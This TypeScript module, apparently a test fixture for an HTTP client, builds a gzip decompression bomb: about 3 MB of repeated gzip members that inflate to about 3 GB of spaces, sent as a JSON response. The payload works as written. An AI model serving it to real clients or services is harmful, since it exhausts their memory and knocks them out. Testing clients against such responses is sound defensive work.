/** An answer that is small on the wire and ends whoever unpacks all of it. */
import { gzipSync } from 'node:zlib';
import type { Answer } from './http-api.js';

const MEMBER_BYTES = 10_000_000;
const MEMBERS = 300;

/** 3 MB that inflate to 3 GB of blanks, which JSON may begin with. */
export function gzipBomb(): Answer {
  // A gzip file may have many members (RFC 1952, section 2.2): one is packed, and said again and again.
  const member = gzipSync(Buffer.alloc(MEMBER_BYTES, ' '), { level: 9 });
  return {
    headers: { 'content-encoding': 'gzip' },
    content: { type: 'application/json', data: Buffer.concat(Array.from({ length: MEMBERS }, () => member)) },
  };
}
